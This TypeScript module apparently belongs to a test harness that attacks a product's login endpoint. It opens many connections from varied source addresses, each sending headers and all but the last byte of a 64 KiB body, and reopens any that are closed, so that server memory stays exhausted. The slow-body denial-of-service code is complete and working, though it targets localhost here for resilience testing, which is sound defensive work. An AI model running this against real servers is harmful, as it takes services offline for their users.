import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import type { Attack } from './attack';
import { addressOf } from './fromAddress';

/** The largest body that still counts as small, as those of sign-ins do. */
const LARGEST_SMALL_BODY = 65_536;

export interface FullBodiesOptions {
  networks: number;
  bodiesPerNetwork: number;
}

/**
 * Sends sign-ins whose bodies arrive immediately except for the last byte, so that no minimum rate ends them. Together
 * they hold more memory than the limit for small bodies. Each one that is ended starts again.
 */
export function fullBodies({ networks, bodiesPerNetwork }: FullBodiesOptions): Attack {
  return {
    begin: async ({ origin }) => {
      const open = new Set<Socket>();
      let [closing, ended] = [false, 0];
      const begin = async (index: number): Promise<void> => {
        const socket = await sendAlmostAll(origin, addressOf(100 + (index % networks)));
        open.add(socket);
        // Rejected, or timed out.
        socket.once('data', () => socket.destroy());
        socket.once('close', () => {
          open.delete(socket);
          if (closing) return;
          ended += 1;
          begin(index).catch(() => undefined); // The product stopped before the attack.
        });
      };
      await Promise.all(Array.from({ length: networks * bodiesPerNetwork }, (_, index) => begin(index)));
      return async () => {
        closing = true;
        const closed = [...open].map((socket) => once(socket, 'close'));
        for (const socket of open) socket.resetAndDestroy();
        await Promise.all(closed);
        return `${networks * bodiesPerNetwork} sign-ins of ${LARGEST_SMALL_BODY} bytes less one from ${networks} networks; ${ended} were ended`;
      };
    },
  };
}

async function sendAlmostAll(origin: string, localAddress: string): Promise<Socket> {
  const { host, port } = new URL(origin);
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress });
  await once(socket, 'connect');
  socket.on('error', () => undefined); // The attack expects to be disconnected.
  const head = [
    'POST /api/auth/login HTTP/1.1',
    `host: ${host}`,
    `origin: ${origin}`,
    'content-type: application/json',
    `content-length: ${LARGEST_SMALL_BODY}`,
    '\r\n',
  ];
  socket.write(head.join('\r\n') + 'x'.repeat(LARGEST_SMALL_BODY - 1));
  return socket;
}
